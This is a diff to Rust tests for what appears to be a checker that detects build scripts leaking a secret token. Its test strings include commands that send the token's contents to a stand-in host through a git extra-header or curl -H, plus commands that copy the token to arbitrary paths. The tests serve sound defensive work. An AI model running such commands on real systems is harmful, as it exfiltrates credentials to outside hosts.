@@ -29,6 +29,7 @@ fn verdict(text: &str) -> Result<Script, dockerfile_dsl::Error> {
 const GAPS: &[&str] = &[
     "test -s {TOKEN}; find / -name TOKEN -exec cp '{}' /x ';'",
     "test -s {TOKEN}; tar -C / -cf /x.tar run",
+    "git -c http.extraHeader=\"A: $(cat {TOKEN})\" {text} https://x",
 ];
 
 /// All at once, so that one run shows every gap.
@@ -255,7 +256,6 @@ fn public_values_where_they_could_do_more() {
         "sh -c 'echo {text}'",
         "eval echo {text}",
         "echo $(( {text} ))",
-        "curl {text} -H @{TOKEN} https://x -o /dev/null",
         "cat {TOKEN} > {text}",
         "cp {TOKEN} {text}",
     ]);
@@ -267,6 +267,7 @@ fn honest_scripts() {
         "test -s {TOKEN}",
         "cat {TOKEN} > /dev/null",
         "cat {TOKEN} > {tmp}/x",
+        "curl -fsS -H @{TOKEN} {text} -o /srv/x",
         "cp {TOKEN} {tmp}/x && cp {tmp}/x {tmp}/y",
         "cat {TOKEN} | sha256sum > /x",
         "cat {TOKEN} > /srv/x; rm -f /srv/x",
